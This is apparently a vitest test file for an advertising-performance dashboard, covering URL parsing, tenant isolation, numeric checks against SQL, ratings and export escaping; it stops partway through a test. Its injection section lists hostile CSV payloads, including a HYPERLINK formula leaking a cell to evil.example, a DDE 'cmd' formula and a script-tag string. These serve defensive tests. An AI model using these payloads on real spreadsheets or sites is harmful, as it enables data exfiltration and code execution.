// Hostile review of the performance pages: malformed URLs, far time zones,
// another tenant with the same ids, noisy real-looking data checked against
// independent SQL, hostile names in the CSV and in links, degenerate and
// absurd values, and the table's rating against the engine's. Each test
// states the CORRECT behaviour; data come from a fixed mulberry32 seed.
import type pg from 'pg';
import { describe, expect, it } from 'vitest';
import { Rng } from '../../db/seed/random';
import type { Tx } from '../../lib/db/pool';
import { formatCalendarDay, formatMoney, formatPercent } from '../../lib/format/number';
import { csvNumber, toCsv, type CsvColumn } from '../../lib/performance/csv';
import { campaignDetail } from '../../lib/performance/detail';
import { addDays, daysInclusive, MAX_HISTORY_DAYS, MAX_RANGE_DAYS, parseView, viewParams, type Period } from '../../lib/performance/filters';
import { campaignHref, chartData, entityRows, performancePage, tenantStyle } from '../../lib/performance/queries';
import { totalsOf } from '../../lib/performance/table';
import type { EntityRow } from '../../lib/performance/types';
import { appKysely, rolledBackAsApp } from '../helpers/app-db';
import { createTenant, ownerPool, inTenant } from '../helpers/db';

const app = appKysely();
const owner = ownerPool();

interface M {
  platform?: string;
  level?: 'campaign' | 'adset';
  id: string;
  campaignId?: string | null;
  day: string;
  name?: string | null;
  campaignName?: string | null;
  spend: number | string;
  impressions?: number;
  clicks?: number;
  conversions?: number | string;
  value?: number | string;
}

const asOwner = <T>(tenant: string, fn: (c: pg.PoolClient) => Promise<T>, commit = true) => inTenant(owner, tenant, fn, commit);

async function insert(tenant: string, rows: M[]): Promise<void> {
  await asOwner(tenant, (c) =>
    c.query(
      `insert into ads.metrics_daily (tenant_id, platform, level, platform_id, campaign_id, day, entity_name, campaign_name,
                                      spend, impressions, clicks, conversions, conversion_value)
       select $1, p::ads.platform, l::ads.entity_level, id, cid, d::date, n, cn, s::numeric, i, k, cv::numeric, v::numeric
       from unnest($2::text[], $3::text[], $4::text[], $5::text[], $6::text[], $7::text[], $8::text[],
                   $9::text[], $10::bigint[], $11::bigint[], $12::text[], $13::text[]) as t(p, l, id, cid, d, n, cn, s, i, k, cv, v)`,
      [
        tenant,
        rows.map((r) => r.platform ?? 'meta'),
        rows.map((r) => r.level ?? 'campaign'),
        rows.map((r) => r.id),
        rows.map((r) => (r.campaignId === undefined ? (r.level === 'adset' ? null : r.id) : r.campaignId)),
        rows.map((r) => r.day),
        rows.map((r) => (r.name === undefined ? `Name ${r.id}` : r.name)),
        rows.map((r) => r.campaignName ?? null),
        rows.map((r) => String(r.spend)),
        rows.map((r) => r.impressions ?? 0),
        rows.map((r) => r.clicks ?? 0),
        rows.map((r) => String(r.conversions ?? 0)),
        rows.map((r) => String(r.value ?? 0)),
      ],
    ),
  );
}

async function lastDayOf(tenant: string): Promise<string> {
  return asOwner(tenant, async (c) => (await c.query("select to_char(ads_engine.tenant_yesterday($1), 'YYYY-MM-DD') as d", [tenant])).rows[0].d);
}

const asApp = <T>(tenant: string, fn: (trx: Tx) => Promise<T>) => rolledBackAsApp(app.db, tenant, fn);

async function pageFor(tenant: string, params: Record<string, string | string[] | undefined>) {
  return asApp(tenant, async (trx) => {
    const { lastDay, ...style } = await tenantStyle(trx, tenant);
    return performancePage(trx, tenant, parseView(params, lastDay), style, lastDay);
  });
}

/** Every number anywhere in a value: none may be NaN or infinite. */
function badNumbers(v: unknown, path = '$', out: string[] = []): string[] {
  if (typeof v === 'number' && !Number.isFinite(v)) out.push(`${path}=${v}`);
  else if (Array.isArray(v)) v.forEach((x, i) => badNumbers(x, `${path}[${i}]`, out));
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) badNumbers(x, `${path}.${k}`, out);
  return out;
}

interface Sums {
  spend: number;
  impressions: number;
  clicks: number;
  conversions: number;
  value: number;
}
/** Independent SQL: sums per key over [from, to] at a level, as the owner. */
async function sqlSums(tenant: string, level: string, p: { from: string; to: string }, by: 'platform' | 'entity' | 'all'): Promise<Map<string, Sums>> {
  const key = by === 'platform' ? 'platform::text' : by === 'entity' ? "platform::text || '|' || platform_id" : "'all'";
  const rows = await asOwner(tenant, async (c) =>
    (
      await c.query(
        `select ${key} as k, sum(spend)::float8 as spend, sum(impressions)::float8 as impressions, sum(clicks)::float8 as clicks,
                sum(conversions)::float8 as conversions, sum(conversion_value)::float8 as value
         from ads.metrics_daily where tenant_id = $1 and level = $2 and day between $3::date and $4::date group by 1`,
        [tenant, level, p.from, p.to],
      )
    ).rows,
  );
  return new Map(rows.map((r) => [r.k as string, { spend: r.spend, impressions: r.impressions, clicks: r.clicks, conversions: r.conversions, value: r.value }]));
}
const ZERO: Sums = { spend: 0, impressions: 0, clicks: 0, conversions: 0, value: 0 };
const scaled = (s: Sums, f: number): Sums => ({ spend: s.spend * f, impressions: s.impressions * f, clicks: s.clicks * f, conversions: s.conversions * f, value: s.value * f });
function expectSums(got: Sums, want: Sums, label: string): void {
  for (const k of ['spend', 'impressions', 'clicks', 'conversions', 'value'] as const) {
    expect([label, k, got[k]]).toEqual([label, k, expect.closeTo(want[k], 6)]);
  }
}

/**
 * A noisy account, days lastDay-129 .. lastDay: meta (6 campaigns) and google (3) with value, tiktok (2) without;
 * gamma spend, Poisson impressions, clicks and conversions, ~10 % days without delivery, late-attributed
 * conversions on days without spend, ad sets (one with a NULL name, two under a campaign that has no campaign row).
 */
function noisyAccount(lastDay: string, seed = 0xa77ac4): M[] {
  const rng = new Rng(seed);
  const rows: M[] = [];
  const camps: { platform: string; id: string; spend: number; cvr: number; aov: number }[] = [];
  for (let i = 0; i < 6; i++) camps.push({ platform: 'meta', id: `C${i}`, spend: 50 + 400 * rng.float(), cvr: 0.02 + 0.06 * rng.float(), aov: 20 + 60 * rng.float() });
  for (let i = 0; i < 3; i++) camps.push({ platform: 'google', id: `C${i}`, spend: 80 + 300 * rng.float(), cvr: 0.03 + 0.05 * rng.float(), aov: 30 + 40 * rng.float() });
  for (let i = 0; i < 2; i++) camps.push({ platform: 'tiktok', id: `T${i}`, spend: 60 + 100 * rng.float(), cvr: 0.01 + 0.03 * rng.float(), aov: 0 });
  for (const c of camps) {
    for (let ago = 0; ago < 130; ago++) {
      const day = addDays(lastDay, -ago);
      const u = rng.float();
      if (u < 0.07) continue; // no row at all
      if (u < 0.1) {
        // late attribution: conversions reported on a day without spend
        const k = rng.poisson(2);
        rows.push({ platform: c.platform, id: c.id, day, name: `Camp ${c.platform} ${c.id}`, spend: 0, conversions: k, value: c.aov ? (k * c.aov).toFixed(2) : 0 });
        continue;
      }
      const spend = Math.round(c.spend * rng.gammaMeanOne(0.5) * 100) / 100;
      const impressions = rng.poisson(spend * 120);
      const clicks = rng.poisson(impressions * 0.015);
      const conversions = rng.poisson(clicks * c.cvr);
      let value = 0;
      for (let j = 0; j < conversions && c.aov; j++) value += c.aov * rng.gammaMeanOne(0.8);
      rows.push({ platform: c.platform, id: c.id, day, name: ago === 0 ? null : `Camp ${c.platform} ${c.id}`, spend, impressions, clicks, conversions, value: value.toFixed(2) });
      if (c.id === 'C0' || c.id === 'C1') {
        for (const [as, share] of [[`${c.id}-a`, 0.6], [`${c.id}-b`, 0.4]] as const) {
          rows.push({ platform: c.platform, level: 'adset', id: `${c.platform}-${as}`, campaignId: c.id, campaignName: `Camp ${c.platform} ${c.id}`, day,
            name: as.endsWith('-b') ? null : `Ad set ${as}`, spend: (spend * share).toFixed(2), impressions: Math.round(impressions * share),
            clicks: Math.round(clicks * share), conversions: Math.round(conversions * share), value: (value * share).toFixed(2) });
        }
      }
    }
  }
  // Ad sets of a campaign that has no campaign row.
  for (let ago = 0; ago < 40; ago++) {
    for (const as of ['GHOST-a', 'GHOST-b']) {
      const spend = Math.round(30 * rng.gammaMeanOne(0.4) * 100) / 100;
      rows.push({ level: 'adset', id: as, campaignId: 'GHOST', campaignName: null, day: addDays(lastDay, -ago), name: `Ad set ${as}`, spend,
        impressions: rng.poisson(spend * 100), clicks: rng.poisson(spend * 2), conversions: rng.poisson(1), value: (rng.poisson(1) * 40).toFixed(2) });
    }
  }
  return rows;
}

describe('URL parameters', () => {
  it('parseView never throws and never gives a period over 366 days, before the history or after the last complete day', () => {
    const rng = new Rng(0x0bad_0e11);
    const junk = ['', ' ', 'custom', '7d', '90d', '2026-02-30', '0000-01-01', '+275760-09-13', '275760-09-13', '2024-02-29', '2023-02-29', '１２', 'NaN',
      '\u202E7d', '7d\u0000', 'x'.repeat(10_000), '__proto__', 'constructor', 'meta,,GOOGLE, tiktok ', 'META', '<script>', '1970-01-01', '9999-12-31'];
    const lastDays = ['2026-03-29', '2026-10-25', '2026-03-08', '2024-02-29', '2025-12-31', '2000-01-01'];
    for (const lastDay of lastDays) {
      const earliest = addDays(lastDay, -(MAX_HISTORY_DAYS - 1));
      const days = Array.from({ length: 8 }, (_, i) => addDays(lastDay, [-800, -731, -400, -366, -365, -30, 0, 1][i]!));
      for (let n = 0; n < 400; n++) {
        const pick = (): string | string[] | undefined => {
          const u = rng.float();
          if (u < 0.1) return undefined;
          if (u < 0.2) return [rng.pick(junk), rng.pick(days)];
          if (u < 0.2 + 0.4) return rng.pick(days);
          return rng.pick(junk);
        };
        const params = { range: rng.float() < 0.6 ? 'custom' : pick(), from: pick(), to: pick(), platform: pick(), level: pick(), compare: pick(), metric: pick() };
        let v: ReturnType<typeof parseView>;
        expect(() => (v = parseView(params, lastDay))).not.toThrow();
        const p = v!.period;
        expect(p.days).toBeGreaterThanOrEqual(1);
        expect(p.days).toBeLessThanOrEqual(MAX_RANGE_DAYS);
        expect(daysInclusive(p.from, p.to)).toBe(p.days);
        expect(p.to <= lastDay && p.from >= earliest).toBe(true);
        expect(v!.comparison.to).toBe(addDays(p.from, -1));
        expect(v!.comparison.days).toBe(v!.compare === 'previous' ? p.days : Math.max(28, p.days));
        // A link made from the view opens the same view.
        expect(parseView(viewParams(v!), lastDay)).toEqual(v!);
      }
    }
    // A real custom range over the spring DST change is kept as asked.
    expect(parseView({ range: 'custom', from: '2026-03-25', to: '2026-04-02' }, '2026-04-05').period).toEqual({ from: '2026-03-25', to: '2026-04-02', days: 9 });
  });

  it('far time zones: the last complete day is the local yesterday there; an unknown zone is labelled as the UTC its days are in', async () => {
    for (const tz of ['Pacific/Kiritimati', 'America/Adak', 'Not/AZone', '']) {
      const t = await createTenant(owner, `Zone ${tz || 'empty'}`);
      await owner.query('update saas.tenants set timezone = $2 where id = $1', [t, tz]);
      const [{ want }] = (await owner.query(
        "select to_char((now() at time zone ads_engine.valid_timezone($1))::date - 1, 'YYYY-MM-DD') as want", [tz])).rows;
      await insert(t, [{ id: 'Z', day: want, spend: 10, impressions: 100, clicks: 1 }]);
      const style = await asApp(t, (trx) => tenantStyle(trx, t));
      expect([tz, style.lastDay]).toEqual([tz, want]);
      const p = await pageFor(t, { range: 'yesterday' });
      expect(p.kpis.find((k) => k.metric === 'spend')!.current).toBe(10);
      // The page writes "days in <timezone>": it must name the zone the days are actually counted in.
      const effective = tz === 'Not/AZone' || tz === '' ? 'UTC' : tz;
      expect([tz, style.timezone]).toEqual([tz, effective]);
    }
  });
});

describe('tenant isolation', () => {
  it('another tenant with the same campaign ids, names and anomalies never reaches the page, chart, table or detail', async () => {
    const a = await createTenant(owner, 'Iso A');
    const b = await createTenant(owner, 'Iso B');
    const lastDay = await lastDayOf(a);
    const mk = (mult: number, extra: string[]): M[] =>
      ['C1', 'C2', ...extra].flatMap((id) =>
        Array.from({ length: 40 }, (_, ago) => [
          { id, day: addDays(lastDay, -ago), name: `Shared ${id}`, spend: 10 * mult, impressions: 1000 * mult, clicks: 10 * mult, conversions: mult, value: 30 * mult },
          { level: 'adset' as const, id: `${id}-as`, campaignId: id, day: addDays(lastDay, -ago), name: `Shared ${id} ad set`, spend: 5 * mult, impressions: 500, clicks: 5, conversions: mult, value: 15 * mult },
        ]).flat(),
      );
    await insert(a, mk(1, []));
    await insert(b, mk(1000, ['B-ONLY']));
    for (const [t, id] of [[a, 'C1'], [b, 'C1'], [b, 'B-ONLY']] as const) {
      await asOwner(t, async (c) => {
        await c.query(
          `insert into ads.anomalies (tenant_id, platform, level, entity_id, entity_name, campaign_id, day, metric_name, anomaly_type, severity)
           values ($1, 'meta', 'campaign', $2, $2, $2, $3::date, 'roas', 'drop', 'high')`, [t, id, addDays(lastDay, -2)]);
        await c.query(`insert into ads.budget_allocation (tenant_id, platform, campaign_id, daily_budget) values ($1, 'meta', $2, $3)`, [t, id, t === a ? 20 : 99999]);
      });
    }
    // The owner sees B's rows exist.
    const seen = await asOwner(b, async (c) => (await c.query('select count(*)::int as n, sum(spend)::float8 as s from ads.metrics_daily where tenant_id = $1', [b])).rows[0]);
    expect(seen.n).toBe(3 * 40 * 2);
    const aIds = await asOwner(a, async (c) => (await c.query('select id::text from ads.anomalies where tenant_id = $1', [a])).rows.map((r) => r.id));

    for (const params of [{}, { level: 'adset' }, { platform: 'meta', range: '30d', compare: 'previous' }, { range: '90d', metric: 'spend' }]) {
      const p = await pageFor(a, params);
      expect(p.rows.every((r) => r.current.spend <= 5 * 10 * 90 && !r.entityId.startsWith('B-ONLY'))).toBe(true);
      expect(p.kpis.find((k) => k.metric === 'spend')!.current).toBeLessThanOrEqual(2 * 10 * 90);
      expect(p.chart.anomalies.every((x) => aIds.includes(x.id))).toBe(true);
      expect(p.rows.every((r) => r.dailyBudget === null || r.dailyBudget === 20)).toBe(true);
      expect(badNumbers(p)).toEqual([]);
    }
    const period: Period = { from: addDays(lastDay, -29), to: lastDay, days: 30 };
    const [chart, adsets, detail, bOnly] = await asApp(a, async (trx) => [
      await chartData(trx, a, { platforms: ['meta'], level: 'campaign', campaignId: 'C1' }, period, 'roas', lastDay),
      await entityRows(trx, a, { platforms: ['meta'], level: 'adset', campaignId: 'C1' }, period, { from: addDays(period.from, -30), to: addDays(period.from, -1), days: 30 }),
      await campaignDetail(trx, a, 'meta', 'C1', lastDay),
      await campaignDetail(trx, a, 'meta', 'B-ONLY', lastDay),
    ] as const);
    expect(chart.series.every((s) => s.value === null || s.value === 3)).toBe(true);
    expect(chart.anomalies.map((x) => x.id)).toEqual(aIds);
    expect(adsets.map((r) => [r.entityId, r.current.spend])).toEqual([['C1-as', 150]]);
    expect(detail!.benchmarks.totals.spend).toBe(300);
    expect(detail!.identity.budget!.dailyBudget).toBe(20);
    expect(detail!.anomalies.map((x) => x.id)).toEqual(aIds);
    expect(bOnly).toBeNull();
  });
});

describe('numbers on a noisy account, against independent SQL', () => {
  it('cards, platforms, rows and totals row are ratios of sums; the baseline is the 28-day sums x 7/28', async () => {
    const t = await createTenant(owner, 'Noisy numbers');
    const lastDay = await lastDayOf(t);
    await insert(t, noisyAccount(lastDay));
    for (const params of [{}, { level: 'adset' }, { range: '30d', compare: 'previous' }, { range: '90d', platform: 'meta,tiktok' }, { range: 'yesterday' }]) {
      const p = await pageFor(t, params);
      const { period, comparison, level } = p.view;
      expect(comparison.to).toBe(addDays(period.from, -1));
      const f = period.days / comparison.days;
      const filt = (m: Map<string, Sums>) => new Map([...m].filter(([k]) => p.view.platforms.length === 0 || p.view.platforms.some((pl) => k.startsWith(pl))));
      const cur = filt(await sqlSums(t, level, period, 'platform'));
      const cmp = filt(await sqlSums(t, level, comparison, 'platform'));
      const total = (m: Map<string, Sums>) => [...m.values()].reduce((x, y) => scaled({ spend: x.spend + y.spend, impressions: x.impressions + y.impressions, clicks: x.clicks + y.clicks, conversions: x.conversions + y.conversions, value: x.value + y.value }, 1), ZERO);
      const C = total(cur);
      const B = scaled(total(cmp), f);
      const kpi = Object.fromEntries(p.kpis.map((k) => [k.metric, k]));
      expect(kpi.spend!.current).toBeCloseTo(C.spend, 6);
      expect(kpi.value!.comparison).toBeCloseTo(B.value, 6);
      expect(kpi.roas!.current).toBeCloseTo(C.value / C.spend, 9);
      expect(kpi.roas!.comparison).toBeCloseTo(B.value / B.spend, 9);
      expect(kpi.cpa!.current).toBeCloseTo(C.spend / C.conversions, 9);
      expect(kpi.ctr!.comparison).toBeCloseTo(B.clicks / B.impressions, 12);
      expect(kpi.cpm!.current).toBeCloseTo((C.spend * 1000) / C.impressions, 9);
      for (const pf of kpi.roas!.perPlatform) {
        const s = cur.get(pf.platform) ?? ZERO;
        expect([pf.platform, pf.current]).toEqual([pf.platform, s.spend > 0 ? expect.closeTo(s.value / s.spend, 9) : null]);
      }
      const ent = await sqlSums(t, level, period, 'entity');
      const entB = await sqlSums(t, level, comparison, 'entity');
      for (const r of p.rows) {
        expectSums(r.current, ent.get(`${r.platform}|${r.entityId}`) ?? ZERO, r.id);
        expectSums(r.comparison, scaled(entB.get(`${r.platform}|${r.entityId}`) ?? ZERO, f), r.id);
      }
      // The totals row over every row is the cards' totals.
      const tot = totalsOf(p.rows);
      expectSums(tot.current, C, `totals ${JSON.stringify(params)}`);
      expectSums(tot.comparison, B, `totals cmp ${JSON.stringify(params)}`);
      expect(tot.roas).toBeCloseTo(C.value / C.spend, 9);
      // What moved: effects multiply back, shares sum to 100, contributions sum to the change.
      const w = p.whatMoved;
      if (w.unavailable === null && w.current !== null && w.comparison !== null) {
        expect(w.factors.reduce((a, x) => a * x.effect!, 1)).toBeCloseTo(w.current / w.comparison, 9);
        expect(w.factors.reduce((a, x) => a + x.sharePct!, 0)).toBeCloseTo(100, 6);
      }
      expect(badNumbers(p)).toEqual([]);
    }
  });

  it('late attribution: an entity with conversions but no delivery only in the comparison still counts in the totals row and the contributions', async () => {
    const t = await createTenant(owner, 'Late attribution');
    const lastDay = await lastDayOf(t);
    const rows: M[] = [];
    for (let ago = 0; ago < 35; ago++) {
      rows.push({ id: 'A', day: addDays(lastDay, -ago), spend: 100, impressions: 10_000, clicks: 100, conversions: 5, value: ago < 7 ? 500 : 400 });
      rows.push({ id: 'B', day: addDays(lastDay, -ago), spend: 50, impressions: 5000, clicks: 60, conversions: 3, value: 150 });
    }
    // LATE stopped before the range; its last conversions came in on baseline days without spend.
    rows.push({ id: 'LATE', day: addDays(lastDay, -10), spend: 0, conversions: 4, value: 800 });
    await insert(t, rows);
    const p = await pageFor(t, {});
    const kpi = Object.fromEntries(p.kpis.map((k) => [k.metric, k]));
    // Baseline value: 28 x (400 + 150) + 800 = 16200, x 7/28 = 4050.
    expect(kpi.value!.comparison).toBeCloseTo(4050, 9);
    expect(totalsOf(p.rows).comparison.value).toBeCloseTo(4050, 9);
    const w = p.whatMoved;
    const all = [...w.up, ...w.down];
    expect(all.reduce((s, c) => s + c.contribution, 0)).toBeCloseTo(w.current! - w.comparison!, 9);
  });

  it('an ad set without a name is shown by its id, not by its campaign name', async () => {
    const t = await createTenant(owner, 'Nameless ad set');
    const lastDay = await lastDayOf(t);
    await insert(t, [0, 1, 2].flatMap((ago) => [
      { level: 'adset' as const, id: 'AS-named', campaignId: 'K', campaignName: 'Brand', day: addDays(lastDay, -ago), name: 'Prospecting', spend: 10, impressions: 100 },
      { level: 'adset' as const, id: 'AS-9', campaignId: 'K', campaignName: 'Brand', day: addDays(lastDay, -ago), name: null, spend: 10, impressions: 100 },
      { level: 'adset' as const, id: 'AS-10', campaignId: 'K', campaignName: 'Brand', day: addDays(lastDay, -ago), name: null, spend: 10, impressions: 100 },
    ]));
    const p = await pageFor(t, { level: 'adset' });
    const names = Object.fromEntries(p.rows.map((r) => [r.entityId, r.name]));
    expect(names).toEqual({ 'AS-named': 'Prospecting', 'AS-9': 'AS-9', 'AS-10': 'AS-10' });
    expect(p.rows.every((r) => r.campaignName === 'Brand' && r.href === '/performance/meta/K')).toBe(true);
  });

  it('an ad set without a parent campaign id links to no campaign page that would be "not found"', async () => {
    const t = await createTenant(owner, 'Orphan ad set');
    const lastDay = await lastDayOf(t);
    await insert(t, [{ level: 'adset', id: 'AS-orphan', campaignId: null, day: lastDay, name: 'Orphan', spend: 10, impressions: 100 }]);
    const p = await pageFor(t, { level: 'adset' });
    expect(p.rows).toHaveLength(1);
    // No campaign to open: no link at all (the name is shown as text).
    expect(p.rows[0]!.href).toBeNull();
    // And there is indeed no campaign page behind an empty id.
    expect(await asApp(t, (trx) => campaignDetail(trx, t, 'meta', p.rows[0]!.campaignId, lastDay))).toBeNull();
  });
});

describe('ratings', () => {
  async function compareRatings(t: string, lastDay: string, days: number, asOf: string) {
    const period: Period = { from: addDays(asOf, -(days - 1)), to: asOf, days };
    const rows = await asApp(t, (trx) => entityRows(trx, t, { platforms: [], level: 'campaign' }, period, { from: addDays(period.from, -28), to: addDays(period.from, -1), days: 28 }));
    const mismatches: string[] = [];
    await asOwner(t, async (c) => {
      for (const r of rows) {
        const hasValue = (await c.query(
          `select coalesce(sum(conversion_value), 0) > 0 as v from ads.metrics_daily where tenant_id = $1 and platform = $2 and level = 'campaign' and day between $3::date and $4::date`,
          [t, r.platform, period.from, period.to])).rows[0].v;
        const a = await c.query('select metric_name, performance_rating from ads_engine.analyze_campaign_performance($1, $2, $3, $4, $5::date)', [t, r.entityId, r.platform, days, asOf]);
        const want = a.rows.find((x) => x.metric_name === (hasValue ? 'ROAS' : 'CPA'))!.performance_rating;
        if (want !== r.rating) mismatches.push(`${days}d to ${asOf} ${r.platform}/${r.entityId}: table ${r.rating}, engine ${want}`);
      }
    }, false);
    return { mismatches, rated: rows.length };
  }

  it('the table rating equals the engine rating of the same campaign and days (ROAS, or CPA on a platform without value)', async () => {
    const t = await createTenant(owner, 'Ratings');
    const lastDay = await lastDayOf(t);
    await insert(t, noisyAccount(lastDay, 0x5a7e));
    for (const [days, asOf] of [[1, lastDay], [7, lastDay], [14, lastDay], [30, lastDay], [90, lastDay], [14, addDays(lastDay, -3)], [30, addDays(lastDay, -40)]] as const) {
      const { mismatches, rated } = await compareRatings(t, lastDay, days, asOf);
      expect(rated).toBeGreaterThan(5);
      expect(mismatches).toEqual([]);
    }
  });

  // The table rates against the rest of the platform over the SAME days (docs/performance.md, Ratings); the engine's
  // analysis uses its baseline window (1, 7, 14, 30, 90 days). They must agree wherever those are the same days,
  // including custom ranges that end before yesterday. A 10-day range (engine window 14) may differ, by design.
  it('custom ranges of 14 and 30 days ending before yesterday: the table rating equals the engine rating of the same days', async () => {
    const t = await createTenant(owner, 'Ratings custom');
    const lastDay = await lastDayOf(t);
    await insert(t, noisyAccount(lastDay, 0x5a7e));
    const out: string[] = [];
    for (const days of [14, 30]) out.push(...(await compareRatings(t, lastDay, days, addDays(lastDay, -3))).mismatches);
    expect(out).toEqual([]);
  });
});

describe('injection and markup', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'x;=1+1', 'Brand;=cmd|\' /C calc\'!A0',
    '<script>alert(1)</script>', 'He said "hi", then left', 'line one\nline two', 'a\r\n=1+1', '\u202Egnp.exe', 'שלום, עולם', '  spaced  '];
  const COLS: CsvColumn[] = [
    { key: 'name', header: 'Campaign', format: 'text' },
    { key: 'spend', header: 'Spend', format: 'money' },
    { key: 'delta', header: 'Spend Δ %', format: 'percent' },
  ];
  /** A quote-aware CSV reader with a chosen delimiter (as Excel reads a .csv in a locale whose list separator is ';'). */
  function parse(text: string, delim: string): string[][] {
    const out: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let q = false;
    const s = text.replace(/^\uFEFF/, '');
    const endCell = () => {
      row.push(cell);
      cell = '';
    };
    for (let i = 0; i < s.length; i++) {
      const ch = s[i]!;
      if (q && ch === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (q) {
        if (ch === '"') q = false;
        else cell += ch;
      } else if (ch === '"' && cell === '') q = true;
      else if (ch === delim) endCell();
      else if (ch === '\r' && s[i + 1] === '\n') {
        endCell();
        out.push(row);
        row = [];
        i++;
      } else cell += ch;
    }
    return out;
  }
  const formula = (cells: string[]) => cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

  it('CSV: hostile names keep their cells, and no cell reads as a formula with a comma or a semicolon separator', () => {
    const rows = HOSTILE.map((name, i) => ({ name, spend: 10 + i, delta: -5.5 }));
    const csv = toCsv(COLS, rows);
    const comma = parse(csv, ',');
    expect(comma).toHaveLength(HOSTILE.length + 1);
    comma.slice(1).forEach((cells, i) => {
      expect(cells).toHaveLength(3);
      expect(cells[0]!.replace(/^'/, '')).toBe(HOSTILE[i]);
      expect(cells[2]).toBe('-5.50');
    });
    expect(formula(comma.flat())).toEqual([]);
    // Excel in de-DE, fr-FR, ... splits a .csv on ';' (the tenant's locale may well be one of them).
    expect(formula(parse(csv, ';').flat())).toEqual([]);
  });

  it('campaignHref: every id gives its own link that stays on the campaign route after URL normalisation', () => {
    const ids = ['a/b', '%', '%25', '100%', '..', '.', '../C1', 'a?b=c#d', 'x\\y', '名前', '\u202Eabc', ' lead ', '+', 'a%2Fb', '~'];
    const broken: string[] = [];
    const seen = new Map<string, string>();
    for (const id of ids) {
      const u = new URL(campaignHref('meta', id), 'https://aegis.example');
      const seg = u.pathname.split('/');
      const where = `${u.pathname}${u.search}`;
      if (seg.length !== 4 || seg[1] !== 'performance' || seg[2] !== 'meta' || seg[3] === '') broken.push(`${JSON.stringify(id)} -> ${where}`);
      // Next hands the page encodeURIComponent(decoded segment) and the page decodes once: a plain segment must read back as the id.
      else if (u.search === '' && decodeURIComponent(seg[3]!) !== id) broken.push(`${JSON.stringify(id)} reads back as ${decodeURIComponent(seg[3]!)}`);
      if (seen.has(where)) broken.push(`${JSON.stringify(id)} and ${JSON.stringify(seen.get(where))} share ${where}`);
      seen.set(where, id);
    }
    expect(broken).toEqual([]);
  });

  it('campaignDetail: ids with / % _ .. and blanks find exactly their campaign, never another, and never throw', async () => {
    const t = await createTenant(owner, 'Odd ids');
    const lastDay = await lastDayOf(t);
    const ids = ['a/b', 'a', 'b', '%', '%25', '_', 'a%', '..', '.', 'A', ' ', 'x\u0301'];
    await insert(t, ids.flatMap((id, i) => Array.from({ length: 3 }, (_, ago) => ({ id, day: addDays(lastDay, -ago), name: `N${i}`, spend: i + 1, impressions: 100, clicks: 1 }))));
    const wrong: string[] = [];
    for (const [i, id] of ids.entries()) {
      const d = await asApp(t, (trx) => campaignDetail(trx, t, 'meta', id, lastDay)).catch((e: Error) => e);
      if (d instanceof Error) wrong.push(`${JSON.stringify(id)} threw: ${d.message}`);
      else if (d && (d.identity.name !== `N${i}` || d.benchmarks.totals.spend !== 3 * (i + 1))) wrong.push(`${JSON.stringify(id)} read ${d.identity.name}`);
    }
    expect(wrong).toEqual([]);
    for (const id of ['a%25', 'A ', '%2F', 'a\\/b', '_a', 'x']) expect(await asApp(t, (trx) => campaignDetail(trx, t, 'meta', id, lastDay))).toBeNull();
  });
});

describe('degenerate and absurd data', () => {
  it('data only outside the range, only ad sets, one day, impressions without spend, spend without impressions: no throw, no NaN', async () => {
    const mk = async (label: string, rows: (d: string) => M[]) => {
      const t = await createTenant(owner, label);
      await insert(t, rows(await lastDayOf(t)));
      return t;
    };
    const outside = await mk('Only old', (d) => [{ id: 'O', day: addDays(d, -200), spend: 10, impressions: 10, conversions: 1, value: 5 }]);
    const onlyAdsets = await mk('Only ad sets', (d) => [{ level: 'adset', id: 'S', campaignId: 'NOPE', day: d, spend: 10, impressions: 10, conversions: 1, value: 5 }]);
    const oneDay = await mk('One day', (d) => [{ id: 'D', day: d, spend: 10, impressions: 1000, clicks: 10, conversions: 1, value: 5 }]);
    const noSpend = await mk('Impressions, no spend', (d) => Array.from({ length: 35 }, (_, ago) => ({ id: 'I', day: addDays(d, -ago), spend: 0, impressions: 1000, clicks: 10 })));
    for (const [t, params] of [[outside, {}], [outside, { range: 'custom', from: '1999-01-01', to: '2099-01-01' }], [onlyAdsets, {}], [onlyAdsets, { level: 'adset' }],
      [oneDay, { range: 'yesterday' }], [oneDay, { range: '90d', compare: 'previous' }], [noSpend, { metric: 'cpm' }]] as const) {
      const p = await pageFor(t, params);
      expect(badNumbers(p)).toEqual([]);
      expect(p.empty).toBe(false);
    }
    const o = await pageFor(outside, {});
    expect([o.rows, o.kpis.find((k) => k.metric === 'roas')!.current, o.whatMoved.unavailable]).toEqual([[], null, expect.stringMatching(/No spend/)]);
    expect((await pageFor(onlyAdsets, {})).rows).toEqual([]);
    expect((await pageFor(onlyAdsets, { level: 'adset' })).rows.map((r) => [r.entityId, r.campaignName, r.href])).toEqual([['S', 'NOPE', '/performance/meta/NOPE']]);
    const ns = await pageFor(noSpend, {});
    expect(ns.kpis.find((k) => k.metric === 'cpm')!.current).toBe(0);
    expect(ns.rows[0]!.rating).toBe('Insufficient data');
  });

  it('spend and value without impressions (an export without them): "what moved" still lists the contributors, and does not claim there was no delivery', async () => {
    const t = await createTenant(owner, 'No impressions');
    const lastDay = await lastDayOf(t);
    await insert(t, Array.from({ length: 35 }, (_, ago) => [
      { id: 'P', day: addDays(lastDay, -ago), spend: 100, conversions: 4, value: ago < 7 ? 500 : 300 },
      { id: 'Q', day: addDays(lastDay, -ago), spend: 100, conversions: 4, value: 200 },
    ]).flat());
    const p = await pageFor(t, {});
    expect(p.kpis.find((k) => k.metric === 'cpm')!.current).toBeNull();
    const w = p.whatMoved;
    expect(w.unavailable ?? '').not.toMatch(/No delivery/);
    expect([...w.up, ...w.down].reduce((s, c) => s + c.contribution, 0)).toBeCloseTo(4900 / 1400 - 14000 / 5600, 9); // 3.5 - 2.5
  });

  it("'NaN'::numeric in spend or value is refused by the table, or else never shows as NaN nor rates the campaign Excellent", async () => {
    const t = await createTenant(owner, 'NaN rows');
    const lastDay = await lastDayOf(t);
    const rows: M[] = [];
    for (let ago = 0; ago < 35; ago++) {
      for (const id of ['N1', 'N2', 'N3']) rows.push({ id, day: addDays(lastDay, -ago), spend: 100, impressions: 1000, clicks: 20, conversions: 5, value: 300 });
    }
    await insert(t, rows);
    const before = (await pageFor(t, {})).rows.map((r) => [r.entityId, r.rating]);
